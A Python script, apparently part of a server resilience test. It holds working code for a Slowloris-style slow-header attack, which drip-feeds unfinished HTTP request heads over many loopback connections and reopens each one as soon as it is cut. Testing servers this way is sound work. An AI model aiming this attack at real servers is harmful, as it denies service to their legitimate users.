#!/usr/bin/env python3
"""Sends request heads a byte a second over many connections, until its input ends.

Owns the attack: one thread, one epoll, as little CPU as Python can. Connection i
comes from 127.0.0.(2 + i mod ADDRESSES) and sends its byte in its own 50th of each
second; one that is cut comes back at once. Never ends a header. At the end
prints one line of JSON. Does not own what the attack does to others.
"""

import argparse
import errno
import gc
import json
import os
import select
import socket
import sys
import time


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--ramp", type=float, required=True, help="seconds over which the first connections open")
    args = parser.parse_args()
    gc.disable()  # as many objects as connections, and no cycles in them
    os.nice(19)  # the clients that are measured share the CPU with it and go first
    attack = Attack(args.port, args.count)
    attack.run(args.ramp)
    print("REPORT " + json.dumps({name: getattr(attack, name) for name in ("opened", "cut", "sent", "held")}))


class Attack:
    """Every connection, by its number and by its socket."""

    def __init__(self, port, count):
        self.port, self.count = port, count
        self.sockets = [None] * count
        self.sent_of = [0] * count
        self.number = {}
        self.epoll = select.epoll()
        self.opened, self.sent = 0, 0
        self.cut = {}  # how a connection ended: how many
        self.held = []  # (instant, connections, bytes sent so far), each second

    def run(self, ramp):
        self.epoll.register(sys.stdin.fileno(), select.EPOLLIN | select.EPOLLHUP)
        began, turn, wanted = time.monotonic(), 0, 0
        while True:
            now = time.monotonic()
            target = min(self.count, int((now - began) / ramp * self.count) + 1)
            for number in range(wanted, target):
                self.open(number)
            wanted = target
            if now >= began + turn / TURNS:
                self.send_turn(turn % TURNS)
                turn += 1
            wait = max(0.0, began + turn / TURNS - time.monotonic())
            for fd, _ in self.epoll.poll(wait, 1000):
                if fd == sys.stdin.fileno():
                    return
                self.reopen(fd)

    def open(self, number):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        sock.bind((f"127.0.0.{2 + number % ADDRESSES}", 0))
        sock.connect_ex(("127.0.0.1", self.port))
        self.sockets[number], self.sent_of[number] = sock, 0
        self.number[sock.fileno()] = number
        self.epoll.register(sock.fileno(), select.EPOLLIN | select.EPOLLRDHUP)
        self.opened += 1

    def send_turn(self, turn):
        """One byte on every connection whose turn it is."""
        if turn == 0:
            self.held.append((time.monotonic(), len(self.number), self.sent))
        for number in range(turn, self.count, TURNS):
            sock = self.sockets[number]
            if sock is None:
                continue
            try:
                at = self.sent_of[number]
                sock.send(HEAD[at : at + 1] or b"a")
                self.sent_of[number] = at + 1
                self.sent += 1
            except OSError:
                pass  # not connected yet, or cut: epoll tells

    def reopen(self, fd):
        number = self.number.pop(fd)
        try:
            how = "closed" if self.sockets[number].recv(4096) == b"" else "answered"
        except OSError as error:
            how = errno.errorcode[error.errno]
        self.cut[how] = self.cut.get(how, 0) + 1
        self.sockets[number].close()
        self.open(number)


HEAD = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
ADDRESSES = 10
TURNS = 50
IP_BIND_ADDRESS_NO_PORT = 24

if __name__ == "__main__":
    main()
